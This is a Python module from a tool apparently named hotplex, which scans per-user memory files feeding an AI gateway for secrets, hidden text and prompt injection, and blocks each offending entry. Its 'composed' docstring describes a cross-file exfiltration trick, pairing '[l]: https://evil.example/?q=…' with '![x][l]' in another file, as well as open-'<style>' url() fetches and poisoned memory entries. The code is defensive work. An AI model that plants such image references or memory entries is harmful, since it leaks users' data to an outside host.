"""Contain untrusted per-user text: each entry holding a finding becomes one visible line.

A gateway compiles every session of a user from that user's files; with ``on_finding = "error"``
one poisoned memory entry fails every session until someone edits the store. With ``"block"``
the entry alone is replaced by ``[blocked by hotplex: <rule>]`` (the rules found in it, in order)
and the compile goes on; each finding is reported as a ``records.Finding`` whose action is
"blocked".

An entry is a top-level block of the file's body, as the daily logs count them
(``logs.blocks``): a list item with everything indented under it (a nested list, a fenced block
inside the item), a paragraph, a heading line, or a fenced code block, which runs to its closing
fence (or to the end of the file when it is never closed). A finding that spans several entries
blocks each of them; one on a line that is in no entry (a line holding only a control character
that ``str.strip`` takes for a blank) blocks that line. A list item's marker is kept (``- [blocked
by hotplex: …]``, so the list stays a list), and a heading's ``#`` marks.

The scan is the one a compile makes (secrets, hidden text, injection, with the manifest's
allowances) on the body as loaded: frontmatter never reaches an artifact, so a finding there is
not one, and line numbers count the frontmatter's lines. It reads the text as written, before
``html_comments = "strip"``: an entry whose finding sits in a comment that would be stripped is
blocked all the same. An overlay is never a template (``Loaded.data``), so nothing rendering
could add escapes the scan.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Sequence
from typing import NamedTuple

from hotplex.errors import Problem
from hotplex.records import Finding
from hotplex.scanning import hidden, injection, secrets
from hotplex.scanning.origins import Allowance, Origin
from hotplex.sources.logs import blocks, name_suffix

TYPE_CHECKING = False
if TYPE_CHECKING:
    from hotplex.manifest.model import Manifest

    Found = secrets.Finding | hidden.Finding | injection.Finding

BLOCKED = "[blocked by hotplex: {rules}]"
_KEPT_MARK = re.compile(r"(?:[-*+]|\d{1,9}[.)]|#{1,6})[ \t]+")
KINDS = {secrets.Finding: "secret", hidden.Finding: "hidden-text", injection.Finding: "injection"}


def scan(
    manifest: Manifest,
    body: str,
    file: str,
    first_line: int,
    named: bool = False,
    overlaid: bool = False,
) -> list[Found]:
    """Every finding of ``body`` (a file's text after its frontmatter, which starts at
    ``first_line`` of the file named ``file``; ``named``: the text is the file's name, a day's
    heading; ``overlaid``: ``file`` is a user's overlaid file, which only an ``overlay:`` glob
    of ``allow_files`` reaches) that the manifest does not allow, in order: of the text as
    written and, where a source strips HTML comments, of the text so stripped
    (``<sty<!-- -->le>`` is ``<style>`` in the artifact), each placed in the text as written."""
    places = [Origin(body, file, first_line, named=named)]
    users = [file] if overlaid else []
    found: list[Found] = []
    seen: set[tuple] = set()
    for text in _readings(manifest, body):
        if secrets.matches(text) or hidden.scan(text) or injection.scan(text):
            for finding in _found(manifest, text, places, users):
                if _place(finding) not in seen:
                    seen.add(_place(finding))
                    found.append(finding)
    found.sort(key=lambda f: (f.span.line or 0, f.span.column or 0))
    return found


def _found(
    manifest: Manifest, text: str, places: list[Origin], users: Sequence[str]
) -> list[Found]:
    keys, chars = manifest.secrets, manifest.unicode
    found: list[Found] = []
    found += secrets.find(
        text, places, secrets.allowance(keys.allow, keys.allow_files).for_overlays(users)
    )
    found += hidden.find(
        text, places, hidden.allowance(chars.allow, chars.allow_files).for_overlays(users)
    )
    found += injection.find(text, places, _injection_allowance(manifest, users))
    return found


def _injection_allowance(manifest: Manifest, users: Sequence[str]) -> Allowance:
    """The ``[injection]`` allowance, ``users`` the labels of a user's files
    (``Allowance.for_overlays``)."""
    rules = manifest.injection
    allowed = injection.allowance(rules.allow, rules.allow_files, rules.allow_hosts)
    return allowed.for_overlays(users)


def _readings(manifest: Manifest, text: str) -> list[str]:
    """``text`` as written, and without its HTML comments when a source of the project strips
    them (``html_comments = "strip"``) and it holds one."""
    strips = manifest.project.html_comments == "strip" or any(
        s.html_comments == "strip" for s in manifest.source
    )
    if not strips or "<!--" not in text:
        return [text]
    from hotplex.sources import comments

    stripped = comments.strip(text)
    return [text] if stripped == text else [text, stripped]


class Part(NamedTuple):
    """A text of one user's that reaches an artifact with the others: a file's body, or a
    day's heading (its name, ``heading``)."""

    body: str
    file: str  # how messages name it
    first_line: int  # the file's line of ``body[0]`` (frontmatter moves a body down)
    named: bool = False  # ``body`` is the file's name, the heading the document gives it
    # The project's own text, read with the user's (a label's first definition wins, wherever it
    # is): never a finding, never blocked.
    trusted: bool = False
    overlaid: bool = False  # a user's overlaid file (``scan``), not one on the disk

    def scanned(self, manifest: Manifest) -> list[Found]:
        """Its findings read alone (none for the project's own text)."""
        if self.trusted:
            return []
        return scan(manifest, self.body, self.file, self.first_line, self.named, self.overlaid)


def heading(display: str, file: str, overlaid: bool = False) -> Part:
    """The heading a day's file name is in the document (``## 2026-11-29-<name>``), as a part
    read with the others: a ``<style>`` there is the stylesheet of an older day's ``url()``."""
    name = posixpath.splitext(posixpath.basename(display))[0]
    return Part(f"## {name}", file, 1, named=True, overlaid=overlaid)


def project_part(body: str, display: str) -> Part | None:
    """A project file's text as a part of the join, trusted; None when it holds no image, whose
    destination a user's definition written first could set. ``composed`` reads it only when a
    user's file defines a label its reference images use: reading the project whole at every
    call cost a check 60 times its time at ten times a usual project's size."""
    if "![" not in body:
        return None
    return Part(body, display, 1, trusted=True)


def composed(manifest: Manifest, parts: Sequence[Part]) -> list[Found]:
    """The injection findings ``parts`` make together, in the order a document holds them, that
    none makes alone, each placed in the part holding its text. A renderer reads a document
    whole: a reference definition in one file is the destination of an image in another
    (``[l]: https://evil.example/?q=…`` in USER.md, ``![x][l]`` in MEMORY.md), and a
    ``<style>`` one file leaves open is the stylesheet of the next one's ``url()``; a user's
    definition written before the project's takes over the project's image (adversary16 D13).
    A trusted part (the project's own text) is read with the others, its findings none. Secrets
    and hidden text are characters of one file: a join adds none."""
    # The project's text is read only where a user's definition may set one of its images.
    defined = {
        label for p in parts if not p.trusted for label in injection.definition_labels(p.body)
    }
    parts = [p for p in parts if not p.trusted or injection.image_labels(p.body) & defined]
    if len(parts) < 2 or all(part.trusted for part in parts):
        return []
    joined = "\n\n".join(part.body for part in parts)
    readings = [text for text in _readings(manifest, joined) if injection.scan(text)]
    if not readings:
        return []
    allowed = _injection_allowance(manifest, [part.file for part in parts if part.overlaid])
    origins = [Origin(part.body, part.file, part.first_line, named=part.named) for part in parts]
    seen = {_place(f) for part in parts for f in part.scanned(manifest)}
    trusted = {part.file for part in parts if part.trusted}
    project: set[tuple] | None = None  # what the project's texts make alone, asked when needed
    found = []
    for text in readings:
        for finding in injection.find(text, origins, allowed):
            if finding.span.file in trusted:
                if project is None:
                    project = _project_made(manifest, [p for p in parts if p.trusted], allowed)
                if _place(finding) in project:
                    continue
                finding = _unplaced(finding, parts)
            if _place(finding) not in seen:
                seen.add(_place(finding))
                found.append(finding)
    return found


def _project_made(manifest: Manifest, parts: Sequence[Part], allowed) -> set[tuple]:
    """The places of what the project's own texts make, read joined without the user's."""
    joined = "\n\n".join(part.body for part in parts)
    origins = [Origin(part.body, part.file, part.first_line) for part in parts]
    return {
        _place(f)
        for text in _readings(manifest, joined)
        for f in injection.find(text, origins, allowed)
    }


def _unplaced(finding: Found, parts: Sequence[Part]) -> Found:
    """A finding the user's text made in the project's (the fetch of a project's reference image
    whose definition the wide scan did not place): the first user file's, with no line, so that
    blocking takes the user's files whole rather than leave it."""
    first = next(part for part in parts if not part.trusted and not part.named)
    return finding._replace(span=finding.span.replace(file=first.file, line=None, column=None))


def _place(finding: Found) -> tuple:
    span = finding.span
    return (finding.rule, span.file, span.line, span.column)


def contain(manifest: Manifest, body: str, file: str, first_line: int) -> tuple[str, list[Found]]:
    """``body``, a user's overlaid file's, with every entry holding a finding blocked, and the
    findings, placed in the file as written (``contain_together`` of one part)."""
    return contain_together(manifest, [Part(body, file, first_line, overlaid=True)])[0]


def contain_together(manifest: Manifest, parts: Sequence[Part]) -> list[tuple[str, list[Found]]]:
    """Each part with every entry holding a finding blocked, alone or with the other parts
    (``composed``), and its findings, placed in its file as written. Blocking an entry can
    change what the rest means (a fence the entry opened that Markdown would have closed later:
    the lines between were code, now they are text), so the parts are scanned again until
    nothing more is found. A finding of the join that no part can be shown to hold blocks
    every part whole: nothing of the join is left to make it."""
    held = [_Held(part) for part in parts]
    while True:
        for one in held:
            while found := one.part._replace(body=one.body).scanned(manifest):
                one.block(found)
        together = composed(manifest, [one.part._replace(body=one.body) for one in held])
        if not together:
            return [(one.body, one.every) for one in held]
        # A finding placed without a line in a file with a heading is the heading's.
        by_place = {(o.part.file, o.part.named): o for o in held if not o.part.trusted}
        before = [one.body for one in held]
        # Each part's findings blocked at once: their lines are of its body before any is.
        owned: dict[int, list[Found]] = {}
        for finding in together:
            named = (finding.span.file, True) in by_place and finding.span.line is None
            owner = by_place.get((finding.span.file, named))
            if owner is not None:
                owned.setdefault(held.index(owner), []).append(finding)
        for index, found in owned.items():
            held[index].block(found)
        if [one.body for one in held] == before:
            for one in (one for one in held if not one.part.trusted):
                one.block([f._replace(span=f.span.replace(line=None)) for f in together])


class _Held:
    """A part being contained: its body now, each of its lines' line as written, and what was
    blocked in it."""

    def __init__(self, part: Part) -> None:
        self.part = part
        self.body = part.body
        self.lines = list(range(part.body.count("\n") + 1))
        self.every: list[Found] = []

    def block(self, found: Sequence[Found]) -> None:
        first = self.part.first_line
        self.every += [_moved(f, self.lines, first) for f in found]
        self.body, kept = _block(self.body, found, first)
        self.lines = [self.lines[index] for index in kept]


def scan_day_name(
    manifest: Manifest, display: str, file: str, overlaid: bool = False
) -> list[Found]:
    """The findings in a day's name (its heading, text of the document), placed at the file
    named ``file`` without a line. A name is no entry: under ``block`` the whole overlaid day is
    left out (``overlay.OverlayInputs.listing``)."""
    name = posixpath.splitext(posixpath.basename(display))[0]
    return scan(manifest, name_suffix(name), file, 1, named=True, overlaid=overlaid)


def _moved(finding: Found, lines: list[int], first_line: int) -> Found:
    """``finding`` placed in the file as written, from its place in a body with some entries
    already blocked (each now one line)."""
    span = finding.span
    if span.line is None:
        return finding
    line = lines[span.line - first_line] + first_line
    return finding._replace(span=span.replace(line=line))


def _block(body: str, found: Sequence[Found], first_line: int) -> tuple[str, list[int]]:
    """``body`` with every entry (or loose line) holding one of ``found`` replaced, and for
    each line of the result the line of ``body`` it stands for."""
    lines = body.split("\n")
    if not found:
        return body, list(range(len(lines)))
    owner: dict[int, int] = {}  # line -> the first line of its entry
    extent: dict[int, int] = {}  # an entry's first line -> its last
    for first, block_lines, _, _ in blocks(body):
        last = first + len(block_lines) - 1
        extent[first] = last
        owner.update(dict.fromkeys(range(first, last + 1), first))
    rules: dict[int, list[str]] = {}
    starts = _line_starts(lines)
    for finding in found:
        for line in _lines_of(finding, starts, first_line, len(lines)):
            if line not in owner and not lines[line].strip(" \t"):
                continue  # a blank line between two entries of one finding holds none of it
            unit = owner.get(line, line)
            extent.setdefault(unit, unit)
            named = rules.setdefault(unit, [])
            if finding.rule not in named:
                named.append(finding.rule)
    out: list[str] = []
    kept: list[int] = []
    index = 0
    while index < len(lines):
        kept.append(index)
        if index not in rules:
            out.append(lines[index])
            index += 1
            continue
        mark = _KEPT_MARK.match(lines[index])
        out.append((mark.group() if mark else "") + BLOCKED.format(rules=", ".join(rules[index])))
        index = extent[index] + 1
    return "\n".join(out), kept


def _line_starts(lines: list[str]) -> list[int]:
    starts, at = [], 0
    for line in lines:
        starts.append(at)
        at += len(line) + 1
    return starts


def _lines_of(finding: Found, starts: list[int], first_line: int, count: int) -> range:
    """The body's lines (0-based) a finding covers; every line when it has no place there."""
    span = finding.span
    if span.line is None or span.column is None:
        return range(count)
    line = span.line - first_line
    end = starts[line] + span.column - 1 + max(finding.size, 1) - 1
    last = line
    while last + 1 < count and starts[last + 1] <= end:
        last += 1
    return range(line, last + 1)


def record(finding: Found, action: str) -> Finding:
    """A scan's finding as the typed record the API and the CLI report."""
    problem: Problem = finding.problem()
    span = finding.span
    return Finding(
        KINDS[type(finding)],
        finding.rule,
        span.file,
        span.line,
        span.column,
        problem.message,
        problem.hint,
        action,
    )
